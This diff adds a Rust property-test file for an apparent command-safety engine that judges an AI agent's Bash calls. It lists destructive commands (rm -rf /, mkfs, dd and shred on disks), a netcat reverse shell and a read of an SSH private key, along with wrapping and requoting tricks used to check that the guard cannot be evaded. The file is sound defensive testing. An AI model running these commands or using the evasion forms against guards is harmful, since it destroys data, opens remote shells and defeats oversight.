@@ -1,0 +1,208 @@
+//! Properties of the verdict under rewriting, over generated inputs: wrapping a denied
+//! command never lowers its verdict, re-quoting never changes a verdict, and appending
+//! a benign command never lowers a dangerous one's.
+
+use mstro_engine::{Engine, Mode, PathEnv, ToolCall, Verdict};
+use proptest::prelude::*;
+use proptest::sample::select;
+
+fn verdict(engine: &Engine, command: &str) -> Verdict {
+    let call = ToolCall::bash(command).with_cwd("/home/dev/project");
+    engine
+        .judge(&call, &PathEnv::fixture(), Mode::Repl)
+        .expect("a Bash command is valid input")
+        .judgement
+        .verdict
+}
+
+fn engine() -> &'static Engine {
+    static ENGINE: std::sync::OnceLock<Engine> = std::sync::OnceLock::new();
+    ENGINE.get_or_init(|| Engine::builtin().expect("built-in packs load"))
+}
+
+/// Commands the built-in packs deny, in plain words (no quotes), so that they can be
+/// re-quoted word by word.
+const DENIED: &[&str] = &[
+    "rm -rf ~",
+    "rm -rf /",
+    "rm -fr /home/dev",
+    "sudo rm -rf /usr",
+    "mkfs.ext4 /dev/sda1",
+    "dd if=/dev/zero of=/dev/sda bs=1M",
+    "chmod -R 777 /",
+    "chown -R nobody /etc",
+    "shred /dev/nvme0n1",
+    "wipefs -a /dev/sdb",
+    "cat /tmp/x > /dev/sda",
+    "nc -e /bin/sh 10.0.0.1 4444",
+    "rm -rf /home/dev/.mstro",
+];
+
+/// Commands judged `review`.
+const REVIEWED: &[&str] = &[
+    "git reset --hard",
+    "git push --force origin main",
+    "cat /home/dev/.ssh/id_rsa",
+    "sudo apt-get install x",
+    "kubectl delete pod web-0",
+    "terraform destroy",
+    "rm -rf src",
+];
+
+/// Commands judged `allow`.
+const ALLOWED: &[&str] = &[
+    "ls -la",
+    "git status",
+    "cargo test",
+    "npm run build",
+    "rm -rf node_modules",
+    "cat README.md",
+    "grep -rn TODO src",
+];
+
+const BENIGN: &[&str] = &[
+    "ls",
+    "echo done",
+    "git status",
+    "true",
+    "cat README.md",
+    "pwd",
+];
+
+/// A shell word that is `s` however bash reads it.
+fn single_quoted(s: &str) -> String {
+    format!("'{}'", s.replace('\'', r"'\''"))
+}
+
+/// One way to run `inner` that runs it, and not only sometimes. Returns the new
+/// command and whether it is still a simple command: a wrapper program (`sudo`, `env`)
+/// takes a simple command, not `{ ...; }` or `f() ...` (bash would not run those).
+/// `depth` keeps nested heredoc delimiters apart; after a heredoc, what closes a
+/// construct goes on its own line.
+fn wrap(inner: &str, simple: bool, how: u8, depth: usize) -> (String, bool) {
+    let how = if simple { how % 16 } else { 4 + how % 12 };
+    let multiline = inner.contains('\n');
+    // `;` or a newline before what closes a construct.
+    let end = if multiline { "\n" } else { "; " };
+    let open = if multiline { "\n" } else { " " };
+    let wrapped = match how {
+        0 => format!("sudo {inner}"),
+        1 => format!("env A=1 {inner}"),
+        2 => format!("timeout 5 {inner}"),
+        3 => format!("nice -n 5 nohup {inner}"),
+        4 => format!("echo $({open}{inner}{open})"),
+        5 => format!("bash -c {}", single_quoted(inner)),
+        6 => format!("sh -c {}", single_quoted(inner)),
+        7 => format!("eval {}", single_quoted(inner)),
+        8 => format!("({open}{inner}{open})"),
+        9 => format!("{{{open}{inner}{end}}}"),
+        10 => format!("ls | {inner}"),
+        11 if !multiline => format!("{inner} | cat"),
+        11 => format!("ls | {inner}"),
+        12 => format!("bash <<'E{depth}'\n{inner}\nE{depth}"),
+        13 => format!("if true; then{open}{inner}{end}fi"),
+        14 => format!("for i in 1; do{open}{inner}{end}done"),
+        _ => format!("f() {{{open}{inner}{end}}}{end}f"),
+    };
+    // Prefix wrappers, substitutions and `-c` strings are simple commands themselves.
+    (wrapped, how <= 7)
+}
+
+/// `word` written another way bash reads as the same word. Operators (`>`) are not
+/// words: quoted, they would mean something else.
+fn requote(word: &str, how: u8) -> String {
+    if word.contains(['<', '>', '|', '&', ';', '(', ')']) {
+        return word.to_owned();
+    }
+    let safe_split = word.len() > 1 && !word.starts_with('~');
+    match how % 6 {
+        0 => word.to_owned(),
+        1 if !word.starts_with('~') => format!("\"{word}\""),
+        2 if !word.starts_with('~') => single_quoted(word),
+        // A backslash before a letter or digit is that character.
+        3 => match word
+            .char_indices()
+            .find(|(i, c)| *i > 0 && c.is_ascii_alphanumeric())
+        {
+            Some((i, _)) => format!("{}\\{}", &word[..i], &word[i..]),
+            None => word.to_owned(),
+        },
+        4 if safe_split => format!("'{}'{}", &word[..1], &word[1..]),
+        5 if safe_split => format!("{}\"\"{}", &word[..1], &word[1..]),
+        _ => word.to_owned(),
+    }
+}
+
+proptest! {
+    // 256 cases each by default; `PROPTEST_CASES=20000` for a longer search.
+    #![proptest_config(ProptestConfig::default())]
+
+    #[test]
+    fn wrapping_a_denied_command_never_lowers_its_verdict(
+        base in select(DENIED),
+        layers in proptest::collection::vec(any::<u8>(), 1..4),
+    ) {
+        let e = engine();
+        prop_assume!(verdict(e, base) == Verdict::Deny);
+        let mut command = base.to_owned();
+        let mut simple = true;
+        for (depth, how) in layers.into_iter().enumerate() {
+            (command, simple) = wrap(&command, simple, how, depth);
+        }
+        prop_assert_eq!(verdict(e, &command), Verdict::Deny, "{}", command);
+    }
+
+    #[test]
+    fn requoting_words_or_continuing_lines_never_changes_a_verdict(
+        base in select([DENIED, REVIEWED, ALLOWED].concat()),
+        hows in proptest::collection::vec(any::<u8>(), 8),
+        continuation in any::<u8>(),
+    ) {
+        let e = engine();
+        let expected = verdict(e, base);
+        let words: Vec<&str> = base.split(' ').collect();
+        let mut rewritten: Vec<String> = words
+            .iter()
+            .zip(hows.iter().cycle())
+            .map(|(w, h)| requote(w, *h))
+            .collect();
+        // A line continuation between two words.
+        if words.len() > 1 {
+            let at = 1 + continuation as usize % (words.len() - 1);
+            rewritten[at] = format!("\\\n  {}", rewritten[at]);
+        }
+        let command = rewritten.join(" ");
+        prop_assert_eq!(verdict(e, &command), expected, "{}", command);
+    }
+
+    #[test]
+    fn appending_a_benign_command_never_lowers_a_dangerous_one(
+        base in select([DENIED, REVIEWED].concat()),
+        benign in select(BENIGN),
+        separator in select(&["; ", " && ", " || ", " | ", "\n", " & "][..]),
+        before in any::<bool>(),
+    ) {
+        let e = engine();
+        let expected = verdict(e, base);
+        let command = if before {
+            format!("{benign}{separator}{base}")
+        } else {
+            format!("{base}{separator}{benign}")
+        };
+        prop_assert!(verdict(e, &command) >= expected, "{} was {:?}", command, verdict(e, &command));
+    }
+}
+
+#[test]
+fn the_base_commands_have_the_verdicts_the_properties_assume() {
+    let e = engine();
+    for &(list, want) in &[
+        (DENIED, Verdict::Deny),
+        (REVIEWED, Verdict::Review),
+        (ALLOWED, Verdict::Allow),
+    ] {
+        for c in list {
+            assert_eq!(verdict(e, c), want, "{c}");
+        }
+    }
+}
